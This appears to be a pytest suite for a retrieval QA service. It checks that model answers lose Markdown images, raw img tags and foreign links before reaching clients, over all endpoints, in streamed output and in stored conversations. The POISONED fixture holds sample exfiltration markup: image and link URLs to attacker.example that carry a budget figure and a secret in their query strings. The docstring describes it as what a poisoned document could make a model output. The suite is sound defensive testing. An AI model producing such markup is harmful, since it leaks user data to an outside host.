"""API answers cannot carry a passage out through Markdown that chat tools render: the stand-in
model answers with an image and a link to another host (as a poisoned document could make a real
one do), and neither reaches the client, from /api/v1/ask or the OpenAI endpoint, streamed or not,
nor from a stored conversation. The stream is cut into 4-character pieces, so every construct
crosses piece boundaries."""

from __future__ import annotations

import json
import random
import re

import pytest
from django.contrib.auth.models import User
from django.core.cache import cache
from markdown_it import MarkdownIt
from rest_framework.test import APIClient

from core import apikeys
from retrieval.models import Message
from retrieval.rendering import AnswerSanitizer, sanitize_answer
from tests.documents import FACT, write_markdown
from tests.fakes.openai_server import fake_llm  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db

QUESTION = "What is the Zephyr project budget for 2027?"
POISONED = (
    "The budget is 4.2 million euros [1].\n\n"
    "![chart](https://attacker.example/c.png?d=Zephyr%20budget%204.2M)\n"
    'See [the full report](https://attacker.example/r?d=secret "Report") or '
    "[the source](/api/v1/documents/1/).\n"
    '<img src="https://attacker.example/p.gif?d=secret">'
)
FOREIGN = re.compile(r"attacker\.example")


@pytest.fixture
def asker(collection, ingest_file, tmp_path, fake_llm) -> APIClient:  # noqa: F811
    cache.clear()
    ingest_file(
        collection,
        write_markdown(
            tmp_path / "zephyr.md",
            "Zephyr report",
            [("Introduction", "The Zephyr project builds wind turbines."), ("Budget", FACT)],
        ),
    )
    fake_llm.answer = POISONED
    fake_llm.piece_chars = 4
    user = User.objects.create_user("tooling", password="a-long-test-password")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {apikeys.create_key(user, 'sdk')[1]}")
    return client


def streamed_text(response, pick) -> str:
    body = b"".join(response.streaming_content).decode()
    pieces = []
    for block in body.strip().split("\n\n"):
        data = next(line[6:] for line in block.splitlines() if line.startswith("data: "))
        if data != "[DONE]":
            pieces.append(pick(block, json.loads(data)))
    return "".join(p for p in pieces if p)


def assert_clean(text: str) -> None:
    assert "4.2 million euros [1]" in text, "the answer itself is kept"
    assert "the full report" in text, "a link to another host keeps its text"
    assert "[the source](/api/v1/documents/1/)" in text, "a link on this site stays"
    assert not FOREIGN.search(text), text
    assert "![" not in text
    assert "<img" not in text


def test_rest_answers_lose_images_and_foreign_links(asker):
    response = asker.post("/api/v1/ask", {"question": QUESTION}, format="json")
    assert response.status_code == 200, response.content
    assert_clean(response.json()["answer"])
    stored = Message.objects.get(role="assistant")
    assert FOREIGN.search(stored.content), "what the model said is kept as it was, for the record"


def test_streamed_rest_answers_lose_them_across_pieces(asker):
    response = asker.post("/api/v1/ask", {"question": QUESTION, "stream": True}, format="json")
    assert response.status_code == 200
    text = streamed_text(
        response, lambda block, data: data["text"] if "event: token" in block else ""
    )
    assert_clean(text)


def test_openai_completions_lose_them(asker):
    body = {"model": "ragsite", "messages": [{"role": "user", "content": QUESTION}]}
    response = asker.post("/api/v1/openai/chat/completions", body, format="json")
    assert response.status_code == 200, response.content
    assert_clean(response.json()["choices"][0]["message"]["content"])


def test_streamed_openai_completions_lose_them_across_pieces(asker):
    body = {
        "model": "ragsite",
        "messages": [{"role": "user", "content": QUESTION}],
        "stream": True,
    }
    response = asker.post("/api/v1/openai/chat/completions", body, format="json")
    assert response.status_code == 200
    text = streamed_text(
        response, lambda block, data: data["choices"][0]["delta"].get("content") or ""
    )
    assert_clean(text)


def test_stored_conversations_come_back_sanitised(asker):
    conversation = asker.post("/api/v1/ask", {"question": QUESTION}, format="json").json()[
        "conversation"
    ]
    detail = asker.get(f"/api/v1/conversations/{conversation}/").json()
    answer = next(m for m in detail["messages"] if m["role"] == "assistant")
    assert_clean(answer["content"])


# --- the sanitiser itself -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a ![x](https://e.example/?d=1) b", "a  b"),
        ("a ![x](/local.png) b", "a  b"),  # every image goes, as on the web page
        ("[t](https://e.example/) and [u](/here)", "t and [u](/here)"),
        ("[r]: https://e.example/?d=1\n![x][r]", "[r] \n![x][r]"),
        ("<https://e.example/?d=1> ok", "`https://e.example/?d=1` ok"),
        ('x <img src="https://e.example/p"> <b>y</b>', "x  <b>y</b>"),
        ("[a]![](/x)(https://e.example/)", "[a] (https://e.example/)"),  # no new link
        ("cites [1] and [2, 3]", "cites [1] and [2, 3]"),
        ("code `List<String>` stays", "code `List<String>` stays"),
    ],
)
def test_the_sanitiser_rule_by_rule(text, expected):
    assert sanitize_answer(text) == expected


def test_streaming_gives_the_same_text_whatever_the_cuts():
    rng = random.Random(10)
    alphabet = ["![", "[", "]", "(", ")", "<", ">", ":", " ", "\n", '"', "\\", "https://e.x/"]
    alphabet += ["/local", "x", "img src=", "!"]
    for _ in range(3000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 30)))
        size = rng.randint(1, 6)
        sanitizer = AnswerSanitizer()
        streamed = "".join(sanitizer.feed(text[i : i + size]) for i in range(0, len(text), size))
        assert streamed + sanitizer.flush() == sanitize_answer(text), text


def test_no_rendered_output_reaches_another_host():
    """Whatever the model writes, a CommonMark renderer (with raw HTML on) makes no image or
    link to an absolute address of what comes out."""
    renderer = MarkdownIt("commonmark", {"html": True})
    rng = random.Random(11)
    alphabet = ["![", "[", "]", "(", ")", "<", ">", ":", " ", "\n", '"', "\\", "https://e.x/"]
    alphabet += ["/local", "x", "img src=https://e.x/", "a href=https://e.x", "[r]: https://e.x/\n"]
    alphabet += ["![a][r]", "<https://e.x/>", "!"]
    for _ in range(3000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 20)))
        html = renderer.render(sanitize_answer(text))
        assert not re.search(r'(?:href|src)="(?:[a-z]+:|//)', html), (text, html)


def test_held_back_text_is_bounded():
    """An image target that never closes is not held without limit: what is past the bound is
    dropped as it arrives, and the text after it flows again."""
    sanitizer = AnswerSanitizer()
    sent = sanitizer.feed("Before ![x](https://e.example/?d=")
    for _ in range(200):
        sent += sanitizer.feed("a" * 100)
        assert len(sanitizer._held) <= 4096 + 100
    sent += sanitizer.feed(" after.") + sanitizer.flush()
    assert sent.startswith("Before")
    assert sent.endswith("after.")
    assert "e.example" not in sent
    assert "aaaa" not in sent
